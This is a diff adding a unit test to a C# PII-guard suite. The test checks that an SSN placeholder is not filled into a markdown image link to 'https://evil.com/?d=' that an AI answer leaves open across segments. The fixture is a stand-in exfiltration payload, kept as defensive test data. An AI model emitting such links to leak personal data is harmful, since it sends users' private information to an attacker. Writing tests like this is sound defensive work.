@@ -140,6 +140,19 @@ public sealed class PiiGuardTests
     }
 
     [Fact]
+    public async Task An_address_that_one_part_of_an_answer_leaves_open_takes_no_value_in_the_next()
+    {
+        var (_, call, scope) = await _pii.SendAsync("123-45-6789");
+        CallContent answer = Texts.Of(
+            (SegmentKind.Text, SegmentRole.Assistant, "![x](https://evil.com/?d="), (SegmentKind.Text, SegmentRole.Protocol, "text)"),
+            (SegmentKind.Text, SegmentRole.Assistant, "<SSN_1>) <SSN_1>"));
+        var verdict = await _pii.Guard.InspectAsync(new ResponseContext(call, scope, answer), TestContext.Current.CancellationToken);
+
+        var change = Assert.IsType<ContentChange.ReplaceText>(Assert.Single(Assert.IsType<Verdict.Transform>(verdict).Changes));
+        Assert.Equal((2, "<SSN_1>) 123-45-6789"), (change.SegmentIndex, change.Text));
+    }
+
+    [Fact]
     public async Task A_token_kept_in_an_address_is_named_in_the_verdict()
     {
         var (_, call, scope) = await _pii.SendAsync("123-45-6789");
